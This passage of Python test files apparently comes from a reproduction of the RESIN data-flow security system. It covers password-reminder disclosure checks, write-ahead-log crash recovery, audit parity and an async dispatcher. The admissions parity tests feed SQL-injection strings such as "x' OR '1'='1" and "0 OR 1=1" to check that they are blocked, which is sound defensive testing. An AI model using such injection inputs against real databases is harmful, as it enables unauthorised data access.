    site.register_user("chair@example.org", "chair-password", is_pc=True,
                       priv_chair=True)
    return site


class TestPasswordAssertion:
    def test_password_carries_policy_through_database(self, site):
        row = site._user("victim@example.org")
        assert policy_get(row["password"]).has_type(PasswordPolicy)

    def test_reminder_mailed_to_owner(self, site):
        response = site.env.http_channel(user="victim@example.org")
        assert site.send_password_reminder("victim@example.org",
                                           response) == "mailed"
        assert site.env.mail.sent_to("victim@example.org")

    def test_preview_mode_disclosure_blocked(self, site):
        site.email_preview_mode = True
        response = site.env.http_channel(user="adversary@example.org")
        with pytest.raises(DisclosureViolation):
            site.send_password_reminder("victim@example.org", response)
        assert "victim-password" not in response.body()
        assert not site.env.mail.outbox

    def test_preview_mode_allowed_for_chair(self, site):
        site.email_preview_mode = True
        response = site.env.http_channel(user="chair@example.org",
                                         priv_chair=True)
        site.send_password_reminder("victim@example.org", response)
        assert "victim-password" in response.body()

    def test_legacy_site_leaks_password(self, legacy_site):
        legacy_site.email_preview_mode = True
        response = legacy_site.env.http_channel(user="adversary@example.org")
        legacy_site.send_password_reminder("victim@example.org", response)
        assert "victim-password" in response.body()

    def test_unknown_account(self, site):
        response = site.env.http_channel(user="x@example.org")
        assert site.send_password_reminder("nobody@example.org",
                                           response) == "unknown"

    def test_authenticate(self, site):
        assert site.authenticate("victim@example.org", "victim-password")
        assert not site.authenticate("victim@example.org", "wrong")


class TestPaperPages:
    def test_pc_member_sees_title_but_not_anonymous_authors(self, site):
        body = site.paper_page(1, "pc@example.org").body()
        assert "RESIN" in body
        assert "author@example.org" not in body
        assert "Anonymous" in body

    def test_chair_sees_authors(self, site):
        assert "author@example.org" in site.paper_page(
            1, "chair@example.org").body()

    def test_author_sees_own_names(self, site):
        assert "author@example.org" in site.paper_page(
            1, "author@example.org").body()

    def test_non_anonymous_paper_shows_authors_to_pc(self, site):
        assert "open@example.org" in site.paper_page(
            2, "pc@example.org").body()

    def test_outsider_cannot_view_paper(self, site):
        with pytest.raises(PolicyViolation):
            site.paper_page(1, "stranger@example.org")

    def test_missing_paper_404(self, site):
        with pytest.raises(HTTPError):
            site.paper_page(99, "pc@example.org")

    def test_output_buffering_keeps_page_well_formed(self, site):
        body = site.paper_page(1, "pc@example.org").body()
        assert body.count("<div class='authors'>") == 1
        assert body.rstrip().endswith("</html>")


class TestReviews:
    def test_pc_member_reads_reviews(self, site):
        assert "Accept." in site.review_page(1, "pc@example.org").body()

    def test_author_blocked_until_release(self, site):
        body = site.review_page(1, "author@example.org").body()
        assert "Accept." not in body
        assert "hidden" in body

    def test_author_allowed_after_release(self, site):
        site.add_review(2, "pc@example.org", "Weak accept.", released=True)
        body = site.review_page(2, "open@example.org").body()
        assert "Weak accept." in body
