"""Table 4 verdict parity with the audit recorder enabled.

The acceptance bar for the audit subsystem: with a recorder observing
every scenario environment (via the process-wide :func:`default_audit`
hook — the scenarios build their own environments internally), the attack
verdicts are byte-identical across serial, threaded, async and socket
front ends, and identical to the no-audit baseline.  Recording observes;
it never decides.
"""

import pytest

from repro.audit.ledger import MemoryLedger
from repro.audit.recorder import AuditRecorder, default_audit
from repro.evaluation import table4


@pytest.fixture
def recorder():
    recorder = AuditRecorder(MemoryLedger())
    yield recorder
    recorder.close()


class TestAuditedVerdictParity:
    def test_serial_verdicts_unchanged_by_recorder(self, recorder):
        baseline = table4.verdicts(table4.run_all(True))
        with default_audit(recorder):
            audited = table4.verdicts(table4.run_all(True))
        assert audited == baseline
        recorder.flush()
        # ... and the recorder actually saw the attacks, not an empty run.
        assert recorder.events_recorded > 0
        denies = [e for e in recorder.ledger.iter_events()
                  if e.get("verdict") == "deny"]
        assert denies

    @pytest.mark.parametrize("front_end", ["threads", "async", "socket"])
    def test_concurrent_front_ends_match_serial(self, recorder, front_end):
        serial = table4.verdicts(table4.run_all(True))
        workers = 8 if front_end == "socket" else 16
        with default_audit(recorder):
            audited_serial = table4.verdicts(table4.run_all(True))
            concurrent = table4.verdicts(table4.run_all_concurrent(
                True, workers=workers, front_end=front_end))
        assert audited_serial == serial
        assert concurrent == serial
