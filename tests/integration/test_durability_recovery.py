"""Integration tests for the durable storage engine.

The paper's persistence story (Section 3.4.1): policies stay attached to
data as it moves to stable storage and back.  These tests cover the whole
cycle — log, crash, recover — including:

* the kill-anywhere harness: the WAL is truncated (and corrupted) at every
  byte boundary of its final record and recovery must yield exactly the
  committed prefix state;
* Table 4 verdict parity: the admissions SQL-injection row and the MoinMoin
  write-ACL row produce identical verdicts before and after a durable
  close/reopen cycle;
* tolerant recovery: records referencing unknown policy/filter classes load
  as deny-by-default placeholders instead of failing the whole store.
"""

import json
import os
import shutil
import threading

import pytest

from repro.core.exceptions import (
    AccessDenied,
    PolicyViolation,
    RecoveryError,
    SerializationError,
)
from repro.core.serialization import UnknownPolicy
from repro.fs.resinfs import FILTER_XATTR, POLICY_XATTR
from repro.policies import ACL, UntrustedData
from repro.runtime_api import Resin
from repro.security.assertions import WriteAccessFilter
from repro.storage import UnknownFilter
from repro.storage.wal import WriteAheadLog
from repro.tracking.propagation import concat
from repro.tracking.tainted_str import taint_str


def fingerprint(resin):
    """A comparable image of the full durable state: every table (plain cell
    values) and every filesystem node (data + policy xattr)."""
    engine = resin.db.engine
    tables = {
        name: (
            list(table.column_names),
            [[row[c] for c in table.column_names] for row in table.rows],
        )
        for name, table in sorted(engine.tables.items())
    }
    nodes = {}

    def walk(node, path):
        policy = node.xattrs.get(POLICY_XATTR)
        nodes[path or "/"] = (node.kind, node.data, policy)
        if node.is_dir:
            for name, child in sorted(node.entries.items()):
                walk(child, f"{path}/{name}")

    walk(resin.fs.raw.root, "")
    return (tables, nodes)


def reopen_fingerprint(directory, **kwargs):
    resin = Resin.open(directory, **kwargs)
    try:
        return fingerprint(resin)
    finally:
        resin.durability.close()


class TestBasicCycle:
    def test_tables_and_files_survive_reopen(self, tmp_path):
        store = str(tmp_path / "store")
        resin = Resin.open(store)
        resin.db.query("CREATE TABLE kv (k TEXT, v TEXT)")
        resin.db.query("INSERT INTO kv (k, v) VALUES ('a', '1')")
        resin.fs.mkdir("/data")
        resin.fs.write_text("/data/f.txt", "hello")
        before = fingerprint(resin)
        resin.durability.close()

        resin2 = Resin.open(store)
        assert fingerprint(resin2) == before
        rows = resin2.db.query("SELECT k, v FROM kv").rows
        assert [(str(r["k"]), str(r["v"])) for r in rows] == [("a", "1")]
        assert str(resin2.fs.read_text("/data/f.txt")) == "hello"
        resin2.durability.close()

    def test_policies_survive_reopen(self, tmp_path):
        store = str(tmp_path / "store")
        resin = Resin.open(store)
        resin.db.query("CREATE TABLE notes (id INT, body TEXT)")
        resin.db.query(concat(
            "INSERT INTO notes (id, body) VALUES (1, '",
            taint_str("secret", UntrustedData("form")), "')"))
        resin.fs.write_text(
            "/tainted.txt", taint_str("leak", UntrustedData("upload")))
        resin.durability.close()

        resin2 = Resin.open(store)
        body = resin2.db.query("SELECT body FROM notes").rows[0]["body"]
        assert {type(p) for p in body.policies()} == {UntrustedData}
        data = resin2.fs.read_text("/tainted.txt")
        assert {type(p) for p in data.policies()} == {UntrustedData}
        resin2.durability.close()

    def test_update_delete_drop_replay(self, tmp_path):
        store = str(tmp_path / "store")
        resin = Resin.open(store)
        resin.db.query("CREATE TABLE t (k TEXT, v TEXT)")
        resin.db.query("CREATE TABLE doomed (x TEXT)")
        for k in ("a", "b", "c"):
            resin.db.query(
                f"INSERT INTO t (k, v) VALUES ('{k}', 'old')")
        resin.db.query("UPDATE t SET v = 'new' WHERE k = 'b'")
        resin.db.query("DELETE FROM t WHERE k = 'a'")
        resin.db.query("DROP TABLE doomed")
        resin.fs.mkdir("/dir")
        resin.fs.write_text("/dir/f", "x")
        resin.fs.rename("/dir/f", "/dir/g")
        resin.fs.write_text("/gone", "y")
        resin.fs.unlink("/gone")
        before = fingerprint(resin)
        resin.durability.close()

        assert reopen_fingerprint(store) == before
        resin2 = Resin.open(store)
        rows = resin2.db.query("SELECT k, v FROM t").rows
        assert sorted((str(r["k"]), str(r["v"])) for r in rows) == [
            ("b", "new"), ("c", "old")]
        assert "doomed" not in resin2.db.engine.tables
        assert str(resin2.fs.read_text("/dir/g")) == "x"
        assert not resin2.fs.exists("/gone")
        resin2.durability.close()

    def test_persistent_filter_survives_and_enforces(self, tmp_path):
        store = str(tmp_path / "store")
        resin = Resin.open(store)
        resin.fs.mkdir("/wiki")
        resin.fs.set_persistent_filter(
            "/wiki", WriteAccessFilter(acl=ACL.parse("alice:read,write")))
        resin.fs.set_request_context(user="alice")
        resin.fs.write_text("/wiki/page", "v1")
        resin.durability.close()

        resin2 = Resin.open(store)
        restored = resin2.fs.get_persistent_filter("/wiki")
        assert isinstance(restored, WriteAccessFilter)
        assert restored.acl.may("alice", "write")
        resin2.fs.set_request_context(user="mallory")
        with pytest.raises(AccessDenied):
            resin2.fs.write_text("/wiki/page", "defaced")
        resin2.fs.set_request_context(user="alice")
        resin2.fs.write_text("/wiki/page", "v2")
        resin2.durability.close()

        resin3 = Resin.open(store)
        assert str(resin3.fs.read_text("/wiki/page")) == "v2"
        resin3.durability.close()

    def test_callable_filter_is_skipped_not_fatal(self, tmp_path):
        store = str(tmp_path / "store")
        resin = Resin.open(store)
        resin.fs.mkdir("/home")
        resin.fs.set_persistent_filter(
            "/home", WriteAccessFilter(allowed=lambda u, op, p: u == "bob"))
        resin.durability.close()
        resin2 = Resin.open(store)
        # The callable carries code, which persistent records never store:
        # the filter is simply absent after recovery (re-attach at startup).
        assert resin2.fs.get_persistent_filter("/home") is None
        resin2.durability.close()

    def test_filter_removal_is_durable(self, tmp_path):
        store = str(tmp_path / "store")
        resin = Resin.open(store)
        resin.fs.write_text("/f", "x")
        resin.fs.set_persistent_filter(
            "/f", WriteAccessFilter(acl=ACL.parse("alice:write")))
        resin.fs.remove_persistent_filter("/f")
        resin.durability.close()
        resin2 = Resin.open(store)
        assert resin2.fs.get_persistent_filter("/f") is None
        resin2.durability.close()

    def test_double_open_guard(self, tmp_path):
        store = str(tmp_path / "store")
        resin = Resin.open(store)
        from repro.core.exceptions import FilterError
        resin._ensure_durable(store)  # same directory: no-op
        with pytest.raises(FilterError):
            resin._ensure_durable(str(tmp_path / "elsewhere"))
        resin.durability.close()


class TestCheckpointCompaction:
    def test_checkpoint_retires_segments(self, tmp_path):
        store = str(tmp_path / "store")
        resin = Resin.open(store)
        resin.db.query("CREATE TABLE t (k TEXT)")
        for i in range(5):
            resin.db.query(f"INSERT INTO t (k) VALUES ('{i}')")
        before = fingerprint(resin)
        assert resin.durability.checkpoint() >= 1
        names = sorted(os.listdir(store))
        assert len([n for n in names if n.endswith(".snap")]) == 1
        assert len([n for n in names if n.endswith(".wal")]) == 1
        # The live segment is empty: everything lives in the snapshot.
        assert reopen_fingerprint(store) == before
        resin.durability.close()

    def test_snapshot_plus_tail(self, tmp_path):
        store = str(tmp_path / "store")
        resin = Resin.open(store)
        resin.db.query("CREATE TABLE t (k TEXT)")
        resin.db.query("INSERT INTO t (k) VALUES ('snapshotted')")
        resin.fs.write_text("/pre", "1")
        resin.durability.checkpoint()
        resin.db.query("INSERT INTO t (k) VALUES ('tail')")
        resin.fs.write_text("/post", "2")
        before = fingerprint(resin)
        resin.durability.close()
        assert reopen_fingerprint(store) == before

    def test_auto_checkpoint_on_threshold(self, tmp_path):
        store = str(tmp_path / "store")
        resin = Resin.open(store, checkpoint_bytes=512)
        resin.db.query("CREATE TABLE t (k TEXT)")
        for i in range(30):
            resin.db.query(f"INSERT INTO t (k) VALUES ('row-{i:04d}')")
        assert resin.durability.checkpoints >= 1
        before = fingerprint(resin)
        resin.durability.close()
        assert reopen_fingerprint(store) == before

    def test_repeated_cycles_converge(self, tmp_path):
        store = str(tmp_path / "store")
        expected = None
        for cycle in range(4):
            resin = Resin.open(store)
            if cycle == 0:
                resin.db.query("CREATE TABLE t (n INT)")
            resin.db.query(f"INSERT INTO t (n) VALUES ({cycle})")
            if cycle == 1:
                resin.durability.checkpoint()
            expected = fingerprint(resin)
            resin.durability.close()
        assert reopen_fingerprint(store) == expected
        resin = Resin.open(store)
        assert len(resin.db.query("SELECT n FROM t").rows) == 4
        resin.durability.close()


def _seed_store(directory):
    """A small workload whose last WAL record is an easily-checked insert."""
    resin = Resin.open(directory)
    resin.db.query("CREATE TABLE kv (k TEXT, v TEXT)")
    resin.db.query("INSERT INTO kv (k, v) VALUES ('a', '1')")
    resin.fs.write_text("/f.txt", "hello")
    resin.db.query("UPDATE kv SET v = '2' WHERE k = 'a'")
    full = fingerprint(resin)
    resin.db.query("INSERT INTO kv (k, v) VALUES ('b', '9')")
    final = fingerprint(resin)
    resin.durability.close()
    assert full != final
    return full, final


def _single_segment(directory):
    wal = WriteAheadLog(directory)
    ids = wal.segment_ids()
    wal.close()
    assert len(ids) == 1
    return os.path.join(directory, f"seg-{ids[0]:08d}.wal")


class TestKillAnywhere:
    def test_truncate_every_boundary_of_final_record(self, tmp_path):
        store = str(tmp_path / "store")
        prefix_state, full_state = _seed_store(store)
        segment = _single_segment(store)
        with open(segment, "rb") as handle:
            data = handle.read()
        from repro.storage.wal import decode_records
        records, valid = decode_records(data)
        assert valid == len(data)
        # Offset of the final frame: decoding any strict prefix stops there.
        final_start = decode_records(data[:-1])[1]
        assert 0 < final_start < len(data)

        for cut in range(final_start, len(data) + 1):
            trial = str(tmp_path / f"cut-{cut}")
            shutil.copytree(store, trial)
            with open(os.path.join(trial, os.path.basename(segment)),
                      "r+b") as handle:
                handle.truncate(cut)
            state = reopen_fingerprint(trial)
            expected = full_state if cut == len(data) else prefix_state
            assert state == expected, f"truncation at byte {cut}"
            shutil.rmtree(trial)

    def test_corrupt_every_byte_of_final_record(self, tmp_path):
        store = str(tmp_path / "store")
        prefix_state, full_state = _seed_store(store)
        segment = _single_segment(store)
        with open(segment, "rb") as handle:
            data = handle.read()
        from repro.storage.wal import decode_records
        final_start = decode_records(data[:-1])[1]

        for index in range(final_start, len(data)):
            trial = str(tmp_path / f"flip-{index}")
            shutil.copytree(store, trial)
            corrupted = bytearray(data)
            corrupted[index] ^= 0xFF
            with open(os.path.join(trial, os.path.basename(segment)),
                      "wb") as handle:
                handle.write(bytes(corrupted))
            state = reopen_fingerprint(trial)
            assert state == prefix_state, f"corruption at byte {index}"
            shutil.rmtree(trial)

    def test_recovered_store_keeps_accepting_writes(self, tmp_path):
        store = str(tmp_path / "store")
        _seed_store(store)
        segment = _single_segment(store)
        with open(segment, "r+b") as handle:
            handle.seek(0, os.SEEK_END)
            size = handle.tell()
            handle.truncate(size - 3)  # tear the final record
        resin = Resin.open(store)
        resin.db.query("INSERT INTO kv (k, v) VALUES ('c', '3')")
        resin.durability.close()
        resin2 = Resin.open(store)
        keys = sorted(str(r["k"])
                      for r in resin2.db.query("SELECT k FROM kv").rows)
        assert keys == ["a", "c"]
        resin2.durability.close()


class TestTable4Parity:
    """The paper's Table 4 verdicts must be identical before and after a
    durable close/reopen cycle: assertions keep blocking the attacks, and
    legitimate behaviour keeps working, on recovered state."""

    @staticmethod
    def _attack_verdict(attack):
        try:
            return "leaked" if attack() else "failed"
        except PolicyViolation:
            return "blocked"

    def _admissions_verdicts(self, app):
        return (
            self._attack_verdict(
                lambda: len(app.filter_by_area("x' OR '1'='1")) >= 2),
            self._attack_verdict(
                lambda: len(app.lookup_applicant("0 OR 1=1")) >= 2),
            len(app.search_by_name("Alice")),
        )

    def test_admissions_sql_injection_row(self, tmp_path):
        from repro.apps.admissions import AdmissionsSystem
        store = str(tmp_path / "store")
        resin = Resin.open(store)
        app = AdmissionsSystem(resin.env, use_resin=True)
        app.add_applicant(1, "Alice", "systems", 780, notes="strong accept")
        app.add_applicant(2, "Bob", "theory", 650, notes="confidential")
        before = self._admissions_verdicts(app)
        assert before == ("blocked", "blocked", 1)
        resin.durability.close()

        resin2 = Resin.open(store)
        app2 = AdmissionsSystem(resin2.env, use_resin=True)
        after = self._admissions_verdicts(app2)
        assert after == before
        # The recovered data itself is intact.
        rows = resin2.db.query("SELECT name, notes FROM applicants").rows
        notes = {str(r["name"]): str(r["notes"]) for r in rows}
        assert notes == {"Alice": "strong accept", "Bob": "confidential"}
        resin2.durability.close()

    def _moin_verdicts(self, wiki):
        deface = self._attack_verdict(
            lambda: wiki.overwrite_revision(
                "SecretPlans", 1, "defaced", "mallory") or
            "defaced" in str(
                wiki.env.fs.read_text("/wiki/pages/SecretPlans/00000001")))
        legitimate = "secret plans" in str(
            wiki.view_page("SecretPlans", "alice").body())
        return (deface, legitimate)

    def test_moinmoin_write_acl_row(self, tmp_path):
        from repro.apps.moinmoin import MoinMoin
        store = str(tmp_path / "store")
        resin = Resin.open(store)
        wiki = MoinMoin(resin.env, use_resin=True, use_write_assertion=True)
        wiki.update_body("SecretPlans",
                         "#acl alice:read,write\nthe secret plans", "alice")
        before = self._moin_verdicts(wiki)
        assert before == ("blocked", True)
        resin.durability.close()

        resin2 = Resin.open(store)
        wiki2 = MoinMoin(resin2.env, use_resin=True, use_write_assertion=True)
        after = self._moin_verdicts(wiki2)
        assert after == before
        # Legitimate edits still work on the recovered wiki.
        assert wiki2.update_body(
            "SecretPlans",
            "#acl alice:read,write\nupdated plans", "alice") == 2
        resin2.durability.close()


class TestTolerantRecovery:
    """Records referencing policy/filter classes this deployment does not
    ship must not brick the store: ``tolerant=True`` loads them as
    deny-by-default placeholders."""

    @staticmethod
    def _plant_alien_policy(store):
        """Append a WAL record whose file policy names an unknown class, as
        a newer deployment would have written it."""
        rangemap = json.dumps({
            "length": 5,
            "segments": [[0, 5, [{
                "class": "repro.policies.future.QuantumPolicy",
                "fields": {"level": 9},
            }]]],
        }, sort_keys=True)
        wal = WriteAheadLog(store)
        wal.log({"op": "fs.write", "path": "/alien.txt",
                 "data": b"alien".hex(), "policies": rangemap})
        wal.close()

    def test_unknown_policy_loads_as_placeholder(self, tmp_path):
        store = str(tmp_path / "store")
        resin = Resin.open(store)
        resin.fs.write_text("/ok.txt", "fine")
        resin.durability.close()
        self._plant_alien_policy(store)

        strict = Resin.open(store)
        with pytest.raises(SerializationError):
            strict.fs.read_text("/alien.txt")
        strict.durability.close()

        tolerant = Resin.open(store, tolerant=True)
        data = tolerant.fs.read_text("/alien.txt")
        assert str(data) == "alien"
        placeholders = [p for p in data.policies()
                        if isinstance(p, UnknownPolicy)]
        assert len(placeholders) == 1
        assert placeholders[0].class_name == \
            "repro.policies.future.QuantumPolicy"
        with pytest.raises(PolicyViolation):
            placeholders[0].export_check({"type": "http"})
        tolerant.durability.close()

    def test_unknown_policy_in_sql_cell(self, tmp_path):
        store = str(tmp_path / "store")
        resin = Resin.open(store)
        resin.db.query("CREATE TABLE t (v TEXT)")
        resin.db.query(concat("INSERT INTO t (v) VALUES ('",
                              taint_str("x", UntrustedData("a")), "')"))
        resin.durability.close()
        # Rewrite the stored policy column to name an unknown class.
        wal = WriteAheadLog(store)
        records = list(wal.replay())
        insert = next(r for r in records if r["op"] == "sql.insert")
        cells = dict(zip(insert["columns"], insert["rows"][0]))
        policy_json = cells["__policy_v"].replace(
            "UntrustedData", "VanishedPolicy")
        assert "VanishedPolicy" in policy_json
        wal.log({"op": "sql.update", "table": "t",
                 "columns": ["__policy_v"], "updates": [[0, [policy_json]]]})
        wal.close()

        strict = Resin.open(store)
        with pytest.raises(SerializationError):
            strict.db.query("SELECT v FROM t")
        strict.durability.close()

        tolerant = Resin.open(store, tolerant=True)
        value = tolerant.db.query("SELECT v FROM t").rows[0]["v"]
        assert str(value) == "x"
        assert any(isinstance(p, UnknownPolicy) for p in value.policies())
        tolerant.durability.close()

    def test_unknown_filter_loads_as_deny_all(self, tmp_path):
        store = str(tmp_path / "store")
        resin = Resin.open(store)
        resin.fs.mkdir("/guarded")
        resin.fs.write_text("/guarded/f", "x")
        resin.durability.close()
        wal = WriteAheadLog(store)
        wal.log({"op": "fs.filter", "path": "/guarded",
                 "filter": {"class": "acme.filters.FutureFilter",
                            "fields": {"mode": "strict"}}})
        wal.close()

        with pytest.raises(SerializationError):
            Resin.open(store)

        tolerant = Resin.open(store, tolerant=True)
        restored = tolerant.fs.get_persistent_filter("/guarded")
        assert isinstance(restored, UnknownFilter)
        # Deny-by-default: an assertion we cannot evaluate fails closed.
        with pytest.raises(PolicyViolation):
            tolerant.fs.write_text("/guarded/f", "y")
        # Reads still work: the unknown filter guards mutations only.
        assert str(tolerant.fs.read_text("/guarded/f")) == "x"
        tolerant.durability.close()

    def test_unknown_record_type(self, tmp_path):
        store = str(tmp_path / "store")
        resin = Resin.open(store)
        resin.fs.write_text("/f", "x")
        resin.durability.close()
        wal = WriteAheadLog(store)
        wal.log({"op": "fs.reflink", "path": "/f", "target": "/g"})
        wal.close()
        with pytest.raises(SerializationError):
            Resin.open(store)
        tolerant = Resin.open(store, tolerant=True)
        assert str(tolerant.fs.read_text("/f")) == "x"
        tolerant.durability.close()

    def test_unknown_filter_survives_snapshot_roundtrip(self, tmp_path):
        store = str(tmp_path / "store")
        resin = Resin.open(store)
        resin.fs.mkdir("/guarded")
        resin.durability.close()
        wal = WriteAheadLog(store)
        record = {"class": "acme.filters.FutureFilter",
                  "fields": {"mode": "strict"}}
        wal.log({"op": "fs.filter", "path": "/guarded", "filter": record})
        wal.close()

        tolerant = Resin.open(store, tolerant=True)
        # Compacting must re-serialize the placeholder verbatim …
        tolerant.durability.checkpoint()
        tolerant.durability.close()
        # … so a later deployment (or another tolerant one) reads it back.
        again = Resin.open(store, tolerant=True)
        restored = again.fs.raw.get_xattr("/guarded", FILTER_XATTR)
        assert isinstance(restored, UnknownFilter)
        assert restored.record == record
        again.durability.close()


class TestSnapshotIntegrity:
    def test_all_snapshots_corrupt_fails_loudly(self, tmp_path):
        # Compaction keeps exactly one snapshot and deletes the WAL prefix
        # it covers — if that snapshot rots, there is no state to fall back
        # to, and recovery must refuse to present an empty store as success.
        store = str(tmp_path / "store")
        resin = Resin.open(store)
        resin.db.query("CREATE TABLE t (n INT)")
        resin.db.query("INSERT INTO t (n) VALUES (1)")
        resin.durability.checkpoint()
        resin.durability.close()
        snap = next(n for n in os.listdir(store) if n.endswith(".snap"))
        with open(os.path.join(store, snap), "r+b") as handle:
            handle.seek(12)
            byte = handle.read(1)[0]
            handle.seek(12)
            handle.write(bytes([byte ^ 0xFF]))
        with pytest.raises(RecoveryError):
            Resin.open(store)

    def test_corrupt_newest_falls_back_to_valid_older(self, tmp_path):
        from repro.storage.snapshot import (
            load_latest_snapshot,
            write_snapshot,
        )
        directory = str(tmp_path / "snaps")
        os.makedirs(directory)
        older = {"version": 1, "wal_start": 2, "tables": [], "fs": []}
        newer = {"version": 1, "wal_start": 5, "tables": [], "fs": []}
        write_snapshot(directory, older, sync=False)
        path = write_snapshot(directory, newer, sync=False)
        with open(path, "r+b") as handle:
            handle.seek(10)
            handle.write(b"\xff")
        # The WAL segments the newer snapshot would have retired still
        # exist, so falling back to the older one keeps recovery exact.
        assert load_latest_snapshot(directory) == older

    def test_no_snapshots_means_fresh_store(self, tmp_path):
        from repro.storage.snapshot import load_latest_snapshot
        assert load_latest_snapshot(str(tmp_path)) is None

    def test_snapshot_may_exceed_wal_record_limit(self, tmp_path,
                                                  monkeypatch):
        # Snapshot frames are uncapped: a store whose full image is larger
        # than one WAL record must survive a checkpoint + reopen cycle
        # (each mutation stays under the cap; their sum does not).
        monkeypatch.setattr("repro.storage.wal.MAX_RECORD_BYTES", 2048)
        store = str(tmp_path / "store")
        resin = Resin.open(store)
        resin.db.query("CREATE TABLE t (k TEXT)")
        for i in range(40):
            resin.db.query(f"INSERT INTO t (k) VALUES ('{'v' * 60}-{i}')")
        before = fingerprint(resin)
        resin.durability.checkpoint()
        resin.durability.close()
        snap = next(n for n in os.listdir(store) if n.endswith(".snap"))
        assert os.path.getsize(os.path.join(store, snap)) > 2048
        assert reopen_fingerprint(store) == before

    def test_oversized_mutation_fails_loudly(self, tmp_path, monkeypatch):
        # A single record over the WAL frame cap must raise at write time —
        # never be acknowledged durable and then dropped as a torn tail on
        # replay.
        monkeypatch.setattr("repro.storage.wal.MAX_RECORD_BYTES", 4096)
        store = str(tmp_path / "store")
        resin = Resin.open(store)
        with pytest.raises(SerializationError):
            resin.fs.write_text("/big.txt", "x" * 8192)
        resin.fs.write_text("/small.txt", "ok")
        resin.durability.close()
        resin2 = Resin.open(store)
        assert str(resin2.fs.read_text("/small.txt")) == "ok"
        assert not resin2.fs.exists("/big.txt")
        resin2.durability.close()


class TestShutdown:
    def test_close_drains_inflight_mutations(self, tmp_path):
        store = str(tmp_path / "store")
        resin = Resin.open(store)
        resin.db.query("CREATE TABLE t (n INT)")
        durability = resin.durability
        in_mutation = threading.Event()
        release = threading.Event()
        closed = threading.Event()

        def mutator():
            with durability.mutation():
                in_mutation.set()
                release.wait(5)

        def closer():
            durability.close()
            closed.set()

        t1 = threading.Thread(target=mutator)
        t1.start()
        assert in_mutation.wait(5)
        t2 = threading.Thread(target=closer)
        t2.start()
        # close() must wait for the in-flight mutate-and-log pair …
        assert not closed.wait(0.2)
        release.set()
        assert closed.wait(5)
        t1.join(5)
        t2.join(5)
        # … and detach the sinks before closing the WAL, so later mutations
        # are simply non-durable instead of dying on a closed WAL.
        assert resin.db.engine.durability is None
        assert resin.fs.durability is None
        resin.db.query("INSERT INTO t (n) VALUES (1)")

    def test_close_is_idempotent(self, tmp_path):
        store = str(tmp_path / "store")
        resin = Resin.open(store)
        durability = resin.durability
        durability.close()
        durability.close()


class TestConcurrentDurability:
    def test_concurrent_writers_all_recovered(self, tmp_path):
        store = str(tmp_path / "store")
        resin = Resin.open(store)
        resin.db.query("CREATE TABLE log (worker INT, seq INT)")
        errors = []
        barrier = threading.Barrier(8)

        def worker(wid):
            try:
                barrier.wait()
                for seq in range(10):
                    resin.db.query("INSERT INTO log (worker, seq) "
                                   f"VALUES ({wid}, {seq})")
                    resin.fs.write_text(f"/w{wid}.txt", f"seq {seq}")
            except Exception as exc:  # pragma: no cover - surfaced below
                errors.append(exc)

        threads = [threading.Thread(target=worker, args=(i,))
                   for i in range(8)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        assert not errors
        wal = resin.durability.wal
        # Group commit: concurrent commits share syncs.
        assert wal.records >= 160
        resin.durability.close()

        resin2 = Resin.open(store)
        rows = resin2.db.query("SELECT worker, seq FROM log").rows
        assert {(int(r["worker"]), int(r["seq"])) for r in rows} == {
            (w, s) for w in range(8) for s in range(10)}
        for wid in range(8):
            assert str(resin2.fs.read_text(f"/w{wid}.txt")) == "seq 9"
        resin2.durability.close()

    def test_concurrent_writers_with_checkpoints(self, tmp_path):
        store = str(tmp_path / "store")
        resin = Resin.open(store)
        resin.db.query("CREATE TABLE log (worker INT, seq INT)")
        errors = []
        stop = threading.Event()

        def worker(wid):
            try:
                for seq in range(15):
                    resin.db.query("INSERT INTO log (worker, seq) "
                                   f"VALUES ({wid}, {seq})")
            except Exception as exc:  # pragma: no cover - surfaced below
                errors.append(exc)

        def checkpointer():
            while not stop.is_set():
                resin.durability.checkpoint()

        threads = [threading.Thread(target=worker, args=(i,))
                   for i in range(4)]
        chk = threading.Thread(target=checkpointer)
        chk.start()
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        stop.set()
        chk.join()
        assert not errors
        resin.durability.close()

        resin2 = Resin.open(store)
        rows = resin2.db.query("SELECT worker, seq FROM log").rows
        assert {(int(r["worker"]), int(r["seq"])) for r in rows} == {
            (w, s) for w in range(4) for s in range(15)}
        resin2.durability.close()
