"""The asyncio front end: per-task request isolation, cancellation,
backpressure, graceful shutdown, and the Table 4 suite behind it."""

import asyncio
import threading
import time

import pytest

from repro.core.exceptions import PolicyViolation
from repro.core.filter import Filter
from repro.core.request_context import current_request
from repro.environment import Environment
from repro.evaluation import table4
from repro.runtime_api import Resin
from repro.server.async_dispatcher import AsyncDispatcher
from repro.web.app import WebApplication
from repro.web.request import Request


def _wait(event, timeout=5):
    """Await a threading.Event without blocking the loop."""
    loop = asyncio.get_running_loop()
    return loop.run_in_executor(None, event.wait, timeout)


class TestServing:
    def test_tasks_keep_their_own_request_context(self):
        env = Environment()
        app = WebApplication(env, "async-whoami")
        barrier = threading.Barrier(4)

        @app.route("/whoami")
        def whoami(request, response):
            barrier.wait(timeout=10)
            env.http.write(f"user={request.user};")
            env.http.write(f"fs={env.fs.request_context.get('user')}")

        users = [f"user-{i}@example.org" for i in range(4)]

        async def main():
            async with AsyncDispatcher(app, workers=4) as server:
                return await server.dispatch_all(
                    [Request("/whoami", user=user) for user in users])

        responses = asyncio.run(main())
        for user, response in zip(users, responses):
            assert response.body() == f"user={user};fs={user}"

    def test_violation_confined_to_its_own_task(self):
        env = Environment()
        app = WebApplication(env, "async-mixed")

        @app.route("/ok")
        def ok(request, response):
            response.write("fine")

        @app.route("/boom")
        def boom(request, response):
            raise PolicyViolation("assertion fired")

        requests = [Request("/boom", user="evil")] * 3 + \
                   [Request("/ok", user=f"u{i}") for i in range(5)]

        async def main():
            async with AsyncDispatcher(app, workers=4) as server:
                return await server.dispatch_all(requests,
                                                 return_exceptions=True)

        results = asyncio.run(main())
        violations = [r for r in results if isinstance(r, PolicyViolation)]
        pages = [r for r in results if not isinstance(r, Exception)]
        assert len(violations) == 3
        assert len(pages) == 5
        assert all("fine" in page.body() for page in pages)

    def test_resin_facade_builds_async_dispatcher(self):
        resin = Resin()
        app = WebApplication(resin.env, "facade")

        @app.route("/ping")
        def ping(request, response):
            response.write(f"pong {request.user}")

        server = resin.async_dispatcher(app, workers=2, max_in_flight=3)
        assert server.resin is resin
        assert server.max_in_flight == 3
        with server:
            [response] = server.run([Request("/ping", user="alice")])
        assert "pong alice" in response.body()


class TestCancellation:
